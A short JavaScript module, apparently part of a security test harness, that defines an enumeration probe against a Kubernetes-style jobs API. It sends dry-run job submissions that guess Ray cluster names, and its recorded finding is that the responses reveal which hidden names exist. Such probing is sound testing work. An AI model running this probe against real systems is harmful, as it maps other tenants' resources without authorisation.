const CONNECTIONS = 4;

/** @type {import('./Target.mjs').Attack} */
export const absentClusters = {
  name: 'trials of jobs on clusters that may not exist',
  finding: 'the answer told hidden names from free ones',
  run: target => {
    const { namespace } = target.victim;
    return target.repeat(CONNECTIONS, turn => ({
      path: `/apis/v1/namespaces/${namespace}/jobs?dryRun=All`,
      body: JSON.stringify({
        name: 'hostile',
        namespace,
        user: 'hostile',
        version: '2.46.0',
        entrypoint: 'true',
        clusterSelector: { 'ray.io/cluster': `guess-${turn}` },
      }),
    }));
  },
};
